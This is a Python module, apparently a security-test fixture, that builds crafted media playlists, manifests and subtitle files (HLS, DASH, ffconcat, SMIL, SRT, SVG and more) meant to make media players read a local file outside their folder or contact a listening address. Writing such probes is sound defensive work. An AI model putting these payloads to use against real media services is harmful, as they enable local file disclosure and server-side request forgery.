"""Texts that make players open other files, or addresses."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import NamedTuple

Script = Callable[["Bait"], str]


class Bait(NamedTuple):
    """What a hostile file tries to reach: a recording outside the folder, and an address that listens."""

    file: Path
    url: str


def _hls(entry: str) -> str:
    return f"#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:10\n#EXTINF:5,\n{entry}\n#EXT-X-ENDLIST\n"


def _dash(base: str) -> str:
    return (
        '<?xml version="1.0"?>\n<MPD xmlns="urn:mpeg:dash:schema:mpd:2011"'
        ' profiles="urn:mpeg:dash:profile:isoff-main:2011"'
        ' type="static" mediaPresentationDuration="PT5S" minBufferTime="PT1S"><Period duration="PT5S">'
        '<AdaptationSet mimeType="audio/mp4"><Representation id="1" bandwidth="128000">'
        f"<BaseURL>{base}</BaseURL><SegmentBase/></Representation></AdaptationSet></Period></MPD>\n"
    )


SCRIPTS: dict[str, Script] = {
    "hls of a file": lambda bait: _hls(str(bait.file)),
    "hls of a file url": lambda bait: _hls(f"file://{bait.file}"),
    "hls of the network": lambda bait: _hls(f"{bait.url}/a.ts"),
    "hls of concat": lambda bait: _hls(f"concat:{bait.file}|{bait.url}/a.ts"),
    "hls with a key": lambda bait: _hls(f'#EXT-X-KEY:METHOD=AES-128,URI="{bait.url}/key"\n{bait.file}'),
    "hls with a map": lambda bait: _hls(f'#EXT-X-MAP:URI="{bait.url}/init.mp4"\n{bait.url}/a.mp4'),
    "hls of playlists": lambda bait: (
        "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n"
        f'{bait.url}/a.m3u8\n#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",NAME="b",URI="{bait.file}.m3u8"\n'
    ),
    "m3u": lambda bait: f"#EXTM3U\n{bait.file}\n{bait.url}/a.mp3\n",
    "dash of a file": lambda bait: _dash(str(bait.file)),
    "dash of the network": lambda bait: _dash(f"{bait.url}/a.mp4"),
    "ffconcat of a file": lambda bait: f"ffconcat version 1.0\nfile '{bait.file}'\n",
    "ffconcat of the network": lambda bait: f"ffconcat version 1.0\nfile {bait.url}/a.ts\n",
    "ffconcat of playlists": lambda bait: f"ffconcat version 1.0\nfile '{bait.file}.m3u8'\noption safe 0\n",
    "concat without a header": lambda bait: f"file '{bait.file}'\nfile '{bait.url}/a.ts'\n",
    "sdp": lambda bait: (
        "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\n"
        f"m=audio {bait.url.rpartition(':')[2]} RTP/AVP 0\na=rtpmap:0 PCMU/8000\n"
    ),
    "imf": lambda bait: (
        '<?xml version="1.0"?>\n<CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016">'
        f"<Id>urn:uuid:0</Id><ContentTitle>{bait.file}</ContentTitle></CompositionPlaylist>\n"
    ),
    "asx": lambda bait: f'<ASX version="3.0"><Entry><Ref href="{bait.url}/a.asf"/></Entry></ASX>\n',
    "asf reference": lambda bait: f"[Reference]\nRef1={bait.url}/a.asf\nRef2=file://{bait.file}\n",
    "pls": lambda bait: f"[playlist]\nFile1={bait.file}\nFile2={bait.url}/a.mp3\nNumberOfEntries=2\n",
    "ram": lambda bait: f"rtsp://{bait.url.removeprefix('http://')}/a.rm\nfile://{bait.file}\n",
    "rtsp text": lambda bait: f"rtsptextRTSP://{bait.url.removeprefix('http://')}/a\n",
    "f4m": lambda bait: f'<manifest xmlns="http://ns.adobe.com/f4m/1.0"><media url="{bait.url}/a.flv"/></manifest>\n',
    "smil": lambda bait: f'<smil><body><audio src="{bait.url}/a.rm"/><audio src="{bait.file}"/></body></smil>\n',
    "metadata": lambda bait: f";FFMETADATA1\ntitle={bait.file}\n",
    "vobsub": lambda bait: (
        "# VobSub index file, v7\nsize: 720x576\nid: en, index: 0\n"
        f"# {bait.file}\ntimestamp: 00:00:00:000, filepos: 0\n"
    ),
    "srt": lambda bait: f'1\n00:00:00,000 --> 00:00:05,000\n<img src="{bait.url}/a.png">{bait.file}\n',
    "webvtt": lambda bait: (
        f"WEBVTT\n\nSTYLE\n::cue {{ background: url({bait.url}/a.png) }}\n\n00:00.000 --> 00:05.000\n{bait.file}\n"
    ),
    "ass": lambda bait: (
        "[Script Info]\nScriptType: v4.00+\n"
        f"Audio URI: {bait.file}\nVideo File: {bait.url}/a\n[Events]\nDialogue: 0,0:00:00.00,0:00:05.00,x,,0,0,0,,x\n"
    ),
    "sami": lambda bait: f'<SAMI><BODY><SYNC Start=0><P><img src="{bait.url}/a.png"></SYNC></BODY></SAMI>\n',
    "avisynth": lambda bait: f'DirectShowSource("{bait.file}")\n',
    "svg": lambda bait: f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{bait.url}/a.png"/></svg>\n',
}
"""Texts that make players open other files or addresses."""

_SUFFIXES = {
    "hls": ".m3u8",
    "m3u": ".m3u",
    "dash": ".mpd",
    "ffconcat": ".ffconcat",
    "concat": ".txt",
    "sdp": ".sdp",
    "imf": ".xml",
    "asx": ".asx",
    "asf": ".asf",
    "pls": ".pls",
    "ram": ".ram",
    "rtsp": ".mov",
    "f4m": ".f4m",
    "smil": ".smil",
    "metadata": ".ffmeta",
    "vobsub": ".idx",
    "srt": ".srt",
    "webvtt": ".vtt",
    "ass": ".ass",
    "sami": ".smi",
    "avisynth": ".avs",
    "svg": ".svg",
}


def suffix(name: str) -> str:
    """The suffix of a script's own, by the first word of its name."""
    return _SUFFIXES[name.split()[0]]
